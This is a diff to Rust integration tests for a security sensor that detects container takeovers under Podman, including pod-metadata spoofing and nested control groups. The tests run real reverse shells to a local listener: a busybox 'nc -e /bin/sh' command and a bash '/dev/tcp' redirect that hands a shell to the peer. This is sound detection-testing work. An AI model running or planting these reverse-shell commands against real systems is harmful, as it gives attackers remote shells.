@@ -1,109 +1,31 @@
-//! Takeovers in containers of Podman: the finding names the container and says how it was started.
+//! Takeovers in containers: the finding names the container, and of one of Podman says how it was started.
 
-use std::{cell::RefCell, fs};
+use std::{
+    fs,
+    io::ErrorKind,
+    path::{Path, PathBuf},
+};
 
 use anyhow::{Context, Result, ensure};
 use sensor_tests::{
+    containers::{Podman, Store, USER},
     deadline::wait_for,
     finding::Finding,
     lab::{Lab, REVERSE},
     peer::{Listener, Peer, V4},
     suite::Case,
-    tools,
 };
 use serde_json::{Value, json};
 
-use crate::places::image;
-
-/// What every container here is run with. Limits of its own, since not everybody may raise those that Podman gives by default.
-const RUN: &str = "run --detach --pull=never --network=host --ipc=host --log-driver=none --ulimit=nofile=1024:1024 \
-    --ulimit=nproc=16384:16384";
 /// As containers of administrators are run.
 const TRUSTED: &[&str] = &[
     "--privileged",
     "--pid=host",
+    // Also leaves nothing mounted below the case's directory.
+    "--ipc=host",
     "--read-only",
     "--security-opt=no-new-privileges",
 ];
-
-/// Where containers and images are kept.
-#[derive(Clone, Copy)]
-enum Store {
-    /// Where root has them.
-    Default,
-    /// In the case's directory.
-    Own,
-}
-
-/// Podman with an image of the case's own. Removes what it made.
-struct Podman<'a> {
-    lab: &'a Lab<'a>,
-    options: Vec<String>,
-    image: String,
-    containers: RefCell<Vec<String>>,
-}
-
-impl<'a> Podman<'a> {
-    fn new(lab: &'a Lab<'a>, store: Store) -> Result<Self> {
-        // runc, which manages control groups of any version; files, which need no systemd.
-        let mut options: Vec<String> = ["--runtime=runc", "--cgroup-manager=cgroupfs", "--events-backend=none"]
-            .map(String::from)
-            .into();
-        if matches!(store, Store::Own) {
-            let place = |name: &str| lab.path(name).display().to_string();
-            options.extend([
-                format!("--root={}", place("store")),
-                format!("--runroot={}", place("run")),
-                format!("--tmpdir={}", place("tmp")),
-                "--storage-driver=vfs".into(),
-            ]);
-        }
-        let podman = Self {
-            lab,
-            options,
-            image: format!("localhost/sensor-test-{}:1", std::process::id()),
-            containers: RefCell::default(),
-        };
-        let tree = image(lab)?;
-        lab.bash_to_end("tar -C $TREE -cf image.tar .", &[("TREE", &tree.to_string_lossy())])?;
-        podman.call(&["import", "image.tar", &podman.image])?;
-        Ok(podman)
-    }
-
-    /// What it prints.
-    fn call(&self, arguments: &[&str]) -> Result<String> {
-        let said = self.lab.path("said");
-        let mut command = self.lab.command(tools::find("podman")?)?;
-        command
-            .args(&self.options)
-            .args(arguments)
-            .stdout(fs::File::create(&said)?);
-        let mut child = self.lab.spawn(&mut command)?;
-        let status = wait_for("the end of podman", || Ok(child.try_wait()?))?;
-        ensure!(status.success(), "podman {} ended with {status}", arguments.join(" "));
-        Ok(fs::read_to_string(&said)?.trim().to_owned())
-    }
-
-    /// Starts a container; gives its id.
-    fn run(&self, name: &str, options: &[&str], program: &[&str]) -> Result<String> {
-        let own: Vec<&str> = RUN.split_whitespace().chain(["--name", name]).collect();
-        self.containers.borrow_mut().push(name.to_owned());
-        self.call(&[&own, options, &[self.image.as_str()], program].concat())
-    }
-}
-
-impl Drop for Podman<'_> {
-    fn drop(&mut self) {
-        let containers = self.containers.borrow();
-        let names = containers.iter().map(String::as_str);
-        let remove: Vec<&str> = ["rm", "--force", "--time=0"].into_iter().chain(names).collect();
-        for arguments in [&remove[..], &["rmi", "--force", &self.image]] {
-            if let Err(error) = self.call(arguments) {
-                eprintln!("{error:#}");
-            }
-        }
-    }
-}
 
 /// A container whose first process connects a shell to the peer.
 struct Taken<'a> {
@@ -115,12 +37,20 @@ struct Taken<'a> {
 
 impl<'a> Taken<'a> {
     fn new(lab: &'a Lab<'a>, store: Store, options: &[&str]) -> Result<Self> {
+        Self::by(lab, store, options, |attack| {
+            attack.split(' ').map(String::from).collect()
+        })
+    }
+
+    /// `program` makes the container's program of the attack's command line.
+    fn by(lab: &'a Lab<'a>, store: Store, options: &[&str], program: impl FnOnce(&str) -> Vec<String>) -> Result<Self> {
         let listener = Listener::tcp(V4)?;
         let podman = Podman::new(lab, store)?;
-        let port = listener.port()?.to_string();
+        let port = listener.port()?;
         let name = format!("sensor-test-{port}");
-        let attack = ["/bin/busybox", "nc", "127.0.0.1", &port, "-e", "/bin/sh"];
-        let id = podman.run(&name, options, &attack)?;
+        let program = program(&format!("/bin/busybox nc 127.0.0.1 {port} -e /bin/sh"));
+        let program: Vec<&str> = program.iter().map(String::as_str).collect();
+        let id = podman.run(&name, options, &program)?;
         Ok(Self {
             podman,
             name,
@@ -176,6 +106,11 @@ fn posture(pid: u32, writable_root: bool) -> Result<Value> {
         "hostNamespaces": shared,
         "writableRoot": writable_root,
     });
+    let map = proc("uid_map")?;
+    let root = map.split_whitespace().nth(1).context("no root")?;
+    if root != "0" {
+        posture["mappedRoot"] = root.parse::<u32>()?.into();
+    }
     // Not every kernel has a security module that labels.
     let label = proc("attr/current").unwrap_or_default();
     let label = label.trim_matches(['\0', '\n']);
@@ -254,6 +189,41 @@ fn trusted(lab: &Lab<'_>) -> Result<()> {
     takeover(lab, Store::Own, TRUSTED, false, &expected)
 }
 
+/// With the first version of control groups, a user's container has none of its own.
+fn user(lab: &Lab<'_>) -> Result<()> {
+    let expected = [("mappedRoot", json!(USER)), ("privileged", json!(false))];
+    takeover(lab, Store::User, &[], true, &expected)
+}
+
+/// A container that was told of its pod as Kubernetes does, and a shell in it that was told something else.
+fn told(lab: &Lab<'_>) -> Result<()> {
+    let pod = json!({ "uid": "1f2e3d4c-5b6a-4978-8899-aabbccddeeff", "name": "web-0", "namespace": "shop" });
+    fs::write(lab.path("namespace"), "shop")?;
+    let file = format!(
+        "--volume={}:/var/run/secrets/kubernetes.io/serviceaccount/namespace:ro",
+        lab.path("namespace").display()
+    );
+    let options = [
+        "--env=KUBERNETES_SERVICE_HOST=198.51.100.1",
+        "--env=POD_UID=1f2e3d4c-5b6a-4978-8899-aabbccddeeff",
+        "--env=POD_NAME=web-0",
+        "--env=POD_NAMESPACE=other",
+        &file,
+    ];
+    let mut taken = Taken::by(lab, Store::Own, &[&options[..], &["--ipc=host"]].concat(), |attack| {
+        let script = format!("/bin/busybox env -i POD_NAME=evil POD_NAMESPACE=evil {attack}; true");
+        ["/bin/sh", "-c", &script].map(String::from).into()
+    })?;
+    taken.peer.id()?;
+    let finding = lab.enriched(&lab.finding(taken.peer.ends(), REVERSE)?)?;
+    let found = finding.property("pod");
+    ensure!(found == Some(&pod), "the pod is {found:?} instead of {pod}: {finding}");
+    contained(&finding, &taken.container())?;
+    taken.peer.send("exit\n")?;
+    lab.ended(&finding)?;
+    Ok(())
+}
+
 /// Over before anybody could look: what the kernel recorded names the container.
 fn short(lab: &Lab<'_>) -> Result<()> {
     let mut taken = Taken::new(lab, Store::Default, &[])?;
@@ -262,6 +232,66 @@ fn short(lab: &Lab<'_>) -> Result<()> {
     let finding = lab.finding(taken.peer.ends(), REVERSE)?;
     contained(&finding, &taken.container())?;
     contained(&lab.ended(&finding)?, &taken.container())
+}
+
+/// Control groups of a case, below those of the machine, whatever their version. Removed when nobody is in them any more.
+struct Groups(Vec<PathBuf>);
+
+impl Groups {
+    /// Makes `path` wherever groups can be made.
+    fn new(path: &str) -> Result<Self> {
+        let mut made = Vec::new();
+        for root in ["/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids"] {
+            let root = Path::new(root);
+            if root.join("cgroup.procs").exists() {
+                fs::create_dir_all(root.join(path))
+                    .with_context(|| format!("a control group in {}", root.display()))?;
+                let whole = Path::new(path).ancestors().filter(|part| !part.as_os_str().is_empty());
+                made.extend(whole.map(|part| root.join(part)));
+            }
+        }
+        Ok(Self(made))
+    }
+}
+
+impl Drop for Groups {
+    fn drop(&mut self) {
+        for group in &self.0 {
+            let removed = wait_for("the last process of a control group", || match fs::remove_dir(group) {
+                Err(error) if error.kind() == ErrorKind::ResourceBusy => Ok(None),
+                _ => Ok(Some(())),
+            });
+            if let Err(error) = removed {
+                eprintln!("{}: {error:#}", group.display());
+            }
+        }
+    }
+}
+
+/// As under a systemd inside of a container: the container's own group is further up than the kernel's record reaches, and
+/// known in time for exceptions all the same.
+fn inner_groups(lab: &Lab<'_>) -> Result<()> {
+    let id = format!("{:064x}", std::process::id());
+    let path = format!("sensor-test/libpod-{id}/container/system.slice/some.service");
+    let groups = Groups::new(&path)?;
+    let innermost: Vec<String> = groups
+        .0
+        .iter()
+        .filter(|group| group.ends_with("some.service"))
+        .map(|group| group.join("cgroup.procs").display().to_string())
+        .collect();
+    let listener = Listener::tcp(V4)?;
+    let script = "for group in $GROUPS_OF_IT; do echo $$ >$group; done; \
+        exec unshare --mount bash -c 'exec 5<>/dev/tcp/127.0.0.1/$P; exec sh <&5 >&5 2>&5'";
+    let port = listener.port()?.to_string();
+    lab.bash(script, &[("P", &port), ("GROUPS_OF_IT", &innermost.join(" "))])?;
+    let mut peer = listener.accept()?;
+    peer.id()?;
+    let finding = lab.finding(peer.ends(), REVERSE)?;
+    contained(&finding, &json!({ "runtime": "podman", "id": id }))?;
+    peer.send("exit\n")?;
+    lab.ended(&finding)?;
+    Ok(())
 }
 
 pub fn cases() -> Vec<Case> {
@@ -273,6 +303,17 @@ pub fn cases() -> Vec<Case> {
             TOOLS,
             trusted,
         ),
+        Case::new(
+            "containers::podman_of_a_user",
+            &["podman", "runc", "busybox", "tar", "setpriv"],
+            user,
+        ),
+        Case::new("containers::podman_told_of_a_pod", TOOLS, told),
         Case::new("containers::podman_shell_of_a_short_life", TOOLS, short),
+        Case::new(
+            "containers::groups_inside_a_container",
+            &["bash", "unshare"],
+            inner_groups,
+        ),
     ]
 }
